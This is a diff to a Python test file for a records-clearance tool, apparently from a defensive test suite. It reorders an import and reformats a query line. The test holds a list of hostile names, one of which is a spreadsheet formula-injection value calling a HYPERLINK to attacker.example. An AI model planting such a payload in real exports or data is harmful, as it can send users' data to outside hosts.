@@ -11,7 +11,6 @@ import polars as pl
 import pytest
 from filings_fixtures import AS_OF, COUNTY, filing_block, policy_yaml
 from openpyxl import load_workbook
-from scenarios.builder import Event, rows_for, write_doj
 from sqlalchemy import select
 
 from clearance.engine import decide
@@ -23,6 +22,7 @@ from clearance.records.doj import read_doj
 from clearance.store.db import session_factory
 from clearance.store.models import Person
 from clearance.store.runs import store_run
+from scenarios.builder import Event, rows_for, write_doj
 
 HOSTILE = (
     '=HYPERLINK("http://attacker.example/?x","CLICK"),JANE',
@@ -105,9 +105,7 @@ def test_the_store_loads_the_names_exactly(hostile_run: tuple[Path, Path], tmp_p
     run_dir, source = hostile_run
     with session_factory(f"sqlite:///{tmp_path / 'c.db'}")() as db:
         run = store_run(db, run_dir, [source], "tester")
-        names = set(
-            db.execute(select(Person.name).where(Person.run_id == run.id)).scalars().all()
-        )
+        names = set(db.execute(select(Person.name).where(Person.run_id == run.id)).scalars().all())
     assert set(HOSTILE) <= names
 
 
